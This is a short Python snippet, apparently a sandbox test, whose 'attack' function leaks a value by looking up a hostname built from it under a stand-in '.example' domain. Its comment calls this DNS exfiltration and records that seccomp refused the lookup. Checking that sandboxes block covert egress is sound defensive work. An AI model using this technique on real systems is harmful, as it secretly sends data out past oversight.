# Looks up a name that carries data; the resolver passes it on to whoever owns the domain.
# Seen: refused by seccomp; no question arrives.
import socket


def attack(targets):
    socket.getaddrinfo(f"{targets.name.decode()}.example", 80)
